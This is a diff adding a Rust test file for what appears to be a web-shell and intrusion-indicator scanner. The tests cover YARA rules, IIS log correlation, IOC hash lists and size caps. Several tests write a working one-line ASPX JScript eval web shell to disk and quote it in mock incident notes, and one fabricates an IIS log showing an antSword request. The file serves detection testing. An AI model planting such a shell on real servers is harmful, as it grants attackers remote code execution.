@@ -1,0 +1,332 @@
+//! The file sweep through the real binary: web shells on disk (the real
+//! tennc shells), benign pages, the IIS request tie, size caps, links and
+//! the user's YARA rules.
+
+mod common;
+
+use common::*;
+use serde_json::Value;
+use std::fs;
+use std::path::{Path, PathBuf};
+use tempfile::TempDir;
+
+fn yara_data() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../yara/tests/data")
+}
+
+/// The sample files under a data folder (recursively), with the `.txt`
+/// safety suffix taken off their names: (path relative to the folder,
+/// bytes). Documentation and licence files are left out.
+fn samples(dir: &Path) -> Vec<(String, Vec<u8>)> {
+    fn walk(base: &Path, dir: &Path, out: &mut Vec<(String, Vec<u8>)>) {
+        for e in fs::read_dir(dir).unwrap() {
+            let p = e.unwrap().path();
+            if p.is_dir() {
+                walk(base, &p, out);
+                continue;
+            }
+            let rel = p
+                .strip_prefix(base)
+                .unwrap()
+                .to_string_lossy()
+                .replace('\\', "/");
+            let Some(real) = rel.strip_suffix(".txt") else {
+                continue;
+            };
+            let name = real.rsplit('/').next().unwrap();
+            if name.starts_with("LICENSE") || name == "ASPX_one_liners_list" {
+                continue;
+            }
+            out.push((real.to_string(), fs::read(&p).unwrap()));
+        }
+    }
+    let mut out = Vec::new();
+    walk(dir, dir, &mut out);
+    out.sort();
+    assert!(!out.is_empty(), "no samples in {}", dir.display());
+    out
+}
+
+fn write(root: &Path, rel: &str, bytes: &[u8]) {
+    let p = root.join(rel);
+    fs::create_dir_all(p.parent().unwrap()).unwrap();
+    fs::write(p, bytes).unwrap();
+}
+
+fn scan_args(args: &[&str]) -> Run {
+    let out = exhunt()
+        .arg("scan")
+        .args(args)
+        .args(["--format", "json"])
+        .output()
+        .unwrap();
+    let report: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+        panic!(
+            "not JSON ({e}): {}\n{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        )
+    });
+    Run {
+        report,
+        code: out.status.code().unwrap_or(-1),
+        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+    }
+}
+
+fn at<'a>(r: &'a Run, path: &str) -> Vec<&'a Value> {
+    r.findings().iter().filter(|f| f["path"] == path).collect()
+}
+
+#[test]
+fn every_tennc_shell_is_found_wherever_it_is() {
+    let dir = TempDir::new().unwrap();
+    let shells = samples(&yara_data().join("tennc-webshell"));
+    // Outside any web folder: only the content can tell.
+    for (name, bytes) in &shells {
+        write(dir.path(), &format!("loot/{name}"), bytes);
+    }
+    let r = scan(&[dir.path()]);
+    assert_eq!(r.verdict(), "compromised");
+    for (name, _) in &shells {
+        let path = format!("loot/{name}");
+        let hits = at(&r, &path);
+        assert!(
+            hits.iter().any(|f| f["kind"] == "webshell"
+                && f["severity"] != "info"
+                && f["evidence"]["yara_rule"].is_string()
+                && f["evidence"]["sha256"]
+                    .as_str()
+                    .is_some_and(|s| s.len() == 64)),
+            "{name}: no YARA web-shell finding: {hits:#?}"
+        );
+    }
+    assert_eq!(
+        r.report["stats"]["files_content_scanned"],
+        shells.len() as u64
+    );
+}
+
+#[test]
+fn benign_pages_give_nothing() {
+    let dir = TempDir::new().unwrap();
+    let pages = samples(&yara_data().join("benign-pages"));
+    for (name, bytes) in &pages {
+        write(dir.path(), &format!("site/{name}"), bytes);
+    }
+    let r = scan(&[dir.path()]);
+    assert_eq!(r.verdict(), "clean", "{:#?}", r.findings());
+    assert_eq!(r.code, 0);
+    // No content rule fires; the only mention allowed is the `info` lead
+    // for a memory dump under ProgramData (here Windows Error Reporting's).
+    for f in r.findings() {
+        assert!(
+            f["rule"] == "memory-dump-suspicious-place" && f["severity"] == "info",
+            "{f:#}"
+        );
+    }
+    assert!(!r
+        .findings()
+        .iter()
+        .any(|f| f["evidence"]["yara_rule"].is_string()));
+}
+
+#[test]
+fn shell_in_aspnet_client_and_its_request_in_the_iis_log_are_tied() {
+    let dir = TempDir::new().unwrap();
+    let shell = br#"<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>"#;
+    write(
+        dir.path(),
+        "inetpub/wwwroot/aspnet_client/system_web/Xc9Kd2Lm.aspx",
+        shell,
+    );
+    let log = "#Software: Microsoft Internet Information Services 10.0\r\n\
+#Version: 1.0\r\n\
+#Date: 2021-03-04 00:00:00\r\n\
+#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n\
+2021-03-04 01:00:00 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 198.51.100.20 Mozilla/5.0 - 200 0 0 15\r\n\
+2021-03-04 02:13:07 10.0.0.5 POST /aspnet_client/system_web/Xc9Kd2Lm.aspx - 443 - 203.0.113.9 antSword/v2.1 - 200 0 0 31\r\n\
+2021-03-04 02:20:00 10.0.0.5 GET /aspnet_client/system_web/xc9kd2lm.aspx - 443 - 203.0.113.9 curl/7.1 - 404 0 2 3\r\n";
+    write(
+        dir.path(),
+        "inetpub/logs/LogFiles/W3SVC1/u_ex210304.log",
+        log.as_bytes(),
+    );
+    let r = scan(&[dir.path()]);
+    assert_eq!(r.verdict(), "compromised");
+    let file = "inetpub/wwwroot/aspnet_client/system_web/Xc9Kd2Lm.aspx";
+    let on_disk = at(&r, file);
+    assert!(
+        on_disk
+            .iter()
+            .any(|f| f["rule"] == "webshell-aspnet-client" && f["severity"] == "high"),
+        "{on_disk:#?}"
+    );
+    let req = r.rule("webshell-requested");
+    assert_eq!(req.len(), 2, "{:#?}", r.findings());
+    let served = req
+        .iter()
+        .find(|f| f["evidence"]["sc-status"] == "200")
+        .unwrap();
+    assert_eq!(served["severity"], "critical");
+    assert_eq!(served["time"], "2021-03-04T02:13:07Z");
+    assert_eq!(served["evidence"]["web_shell_file"], file);
+    let failed = req
+        .iter()
+        .find(|f| f["evidence"]["sc-status"] == "404")
+        .unwrap();
+    assert_eq!(failed["verdict"], "attempted");
+    // The request finding names the file finding among its related ones.
+    let ids: Vec<&Value> = on_disk.iter().map(|f| &f["id"]).collect();
+    let related = served["related"].as_array().unwrap();
+    assert!(
+        ids.iter().any(|id| related.contains(id)),
+        "{served:#?} vs {ids:?}"
+    );
+    // The stock logon page request is not tied to anything.
+    assert!(!r
+        .findings()
+        .iter()
+        .any(|f| f["evidence"]["cs-uri-stem"] == "/owa/auth/logon.aspx"));
+}
+
+#[test]
+fn large_files_and_links_are_named_as_skipped() {
+    let dir = TempDir::new().unwrap();
+    write(dir.path(), "data/big.bin", &vec![b'a'; 4096]);
+    write(dir.path(), "data/small.txt", b"hello");
+    #[cfg(unix)]
+    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("data/link")).unwrap();
+    let r = scan_args(&[dir.path().to_str().unwrap(), "--max-filesize", "1K"]);
+    let skipped = r.report["skipped"].as_array().unwrap();
+    let big = skipped
+        .iter()
+        .find(|s| s["path"] == "data/big.bin")
+        .expect("big.bin listed");
+    assert!(big["reason"].as_str().unwrap().contains("--max-filesize"));
+    #[cfg(unix)]
+    {
+        let link = skipped
+            .iter()
+            .find(|s| s["path"] == "data/link")
+            .expect("link listed");
+        assert!(link["reason"].as_str().unwrap().contains("never followed"));
+    }
+    assert!(!skipped.iter().any(|s| s["path"] == "data/small.txt"));
+    // Skipping on purpose is not an error.
+    assert_eq!(r.report["incomplete"], false);
+    assert_eq!(r.code, 0);
+}
+
+#[test]
+fn users_yara_rules_load_and_a_broken_file_is_reported() {
+    let rules = TempDir::new().unwrap();
+    write(
+        rules.path(),
+        "mine/marker.yar",
+        br#"rule Acme_Marker { meta: description = "acme marker" score = 85 strings: $a = "ACME-IMPLANT-7" condition: $a }"#,
+    );
+    write(
+        rules.path(),
+        "mine/broken.yar",
+        b"rule broken { condition: no_such_thing }",
+    );
+    let dir = TempDir::new().unwrap();
+    write(dir.path(), "tools/x.dll", b"MZ....ACME-IMPLANT-7....");
+    let r = scan_args(&[
+        dir.path().to_str().unwrap(),
+        "--yara",
+        rules.path().to_str().unwrap(),
+    ]);
+    let f = r.rule("yara:Acme_Marker");
+    assert_eq!(f.len(), 1, "{:#?}", r.findings());
+    assert_eq!(f[0]["severity"], "high");
+    assert_eq!(f[0]["title"], "acme marker");
+    let loads: Vec<&Value> = r.report["rules"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|l| l["engine"] == "yara")
+        .collect();
+    let broken = loads
+        .iter()
+        .find(|l| l["origin"].as_str().unwrap().ends_with("broken.yar"))
+        .unwrap();
+    assert_eq!(broken["status"], "skipped");
+    assert!(broken["reason"].as_str().unwrap().contains("no_such_thing"));
+    assert!(loads
+        .iter()
+        .any(|l| l["origin"].as_str().unwrap().starts_with("bundled:") && l["status"] == "loaded"));
+    assert!(r.stderr.contains("broken.yar"), "{}", r.stderr);
+}
+
+#[test]
+fn indicators_by_path_and_by_users_hash_list() {
+    let dir = TempDir::new().unwrap();
+    // A path from Microsoft's MSTIC list, with harmless content.
+    let v15 = "Program Files/Microsoft/Exchange Server/V15";
+    let listed = format!("{v15}/FrontEnd/HttpProxy/owa/auth/8Lw7tAhF9i1pJnRo.aspx");
+    write(dir.path(), &listed, b"<html><body>hello</body></html>");
+    // A tool known to the user only by its hash.
+    let tool = b"\x4d\x5a some tool the responder has seen elsewhere";
+    write(dir.path(), "Windows/Temp/svc.exe", tool);
+    write(dir.path(), "Windows/Temp/other.exe", b"MZ another file");
+    use sha2::Digest;
+    let sha: String = sha2::Sha256::digest(tool)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    let list = TempDir::new().unwrap();
+    let ioc_file = list.path().join("case-hashes.txt");
+    fs::write(
+        &ioc_file,
+        format!("# case 42\n{sha}  svc.exe\nnot-a-hash-line\n"),
+    )
+    .unwrap();
+    let r = scan_args(&[
+        dir.path().to_str().unwrap(),
+        "--iocs",
+        ioc_file.to_str().unwrap(),
+    ]);
+    assert_eq!(r.verdict(), "compromised");
+    let p = r.rule("ioc-path");
+    assert_eq!(p.len(), 1, "{:#?}", r.findings());
+    assert_eq!(p[0]["path"], listed.as_str());
+    assert_eq!(p[0]["severity"], "high");
+    assert!(
+        p[0]["source"].as_str().unwrap().contains("MSTIC"),
+        "{:#}",
+        p[0]
+    );
+    let h = r.rule("ioc-sha256");
+    assert_eq!(h.len(), 1, "{:#?}", r.findings());
+    assert_eq!(h[0]["path"], "Windows/Temp/svc.exe");
+    assert_eq!(h[0]["evidence"]["sha256"], sha.as_str());
+    // The unusable line is named, and the scan went on.
+    assert!(r.stderr.contains("case-hashes.txt:3"), "{}", r.stderr);
+    let loads: Vec<&Value> = r.report["rules"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|l| l["engine"] == "iocs")
+        .collect();
+    assert_eq!(loads.len(), 2, "{loads:#?}");
+}
+
+#[test]
+fn shell_code_quoted_in_a_write_up_is_only_a_lead() {
+    let dir = TempDir::new().unwrap();
+    let quote = "# Incident notes\n\nThe shell was `<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>`.\n";
+    write(dir.path(), "case/notes.md", quote.as_bytes());
+    let r = scan(&[dir.path()]);
+    assert_eq!(r.verdict(), "clean", "{:#?}", r.findings());
+    let f = at(&r, "case/notes.md");
+    assert!(
+        !f.is_empty() && f.iter().all(|f| f["severity"] == "info"),
+        "{f:#?}"
+    );
+    // The same text as a page in the web root is a finding.
+    write(dir.path(), "inetpub/wwwroot/notes.aspx", quote.as_bytes());
+    let r = scan(&[dir.path()]);
+    assert_eq!(r.verdict(), "compromised");
+}
